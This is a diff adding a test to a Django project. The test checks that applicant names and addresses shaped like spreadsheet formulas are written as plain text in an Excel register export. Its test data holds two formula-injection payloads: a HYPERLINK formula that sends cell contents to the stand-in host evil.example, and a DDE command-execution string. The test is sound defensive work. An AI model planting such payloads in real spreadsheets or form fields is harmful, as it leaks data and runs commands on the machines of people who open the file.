@@ -328,3 +328,21 @@ def test_receipt_screenshot_for_the_docs(dossiers, settings, monkeypatch):
         capture_output=True,
     )
     assert target.stat().st_size > 20_000
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0"]
+
+
+def test_register_excel_writes_an_applicants_text_as_text(world, dossiers):
+    """An applicant named like a formula, with an address like one, stays text in the Excel register."""
+    from openpyxl import load_workbook
+
+    from cchc.dossiers.models import Dossier
+
+    Dossier.objects.filter(pk=dossiers["receipt"].pk).update(applicant_name=FORMULAS[0], address=FORMULAS[1])
+    data = register.render_register_xlsx(world.agency, dt.date(2026, 3, 1), dt.date(2026, 3, 31))
+    ws = load_workbook(io.BytesIO(data)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert any(FORMULAS[0] in t for t in texts) and any(FORMULAS[1] in t for t in texts)
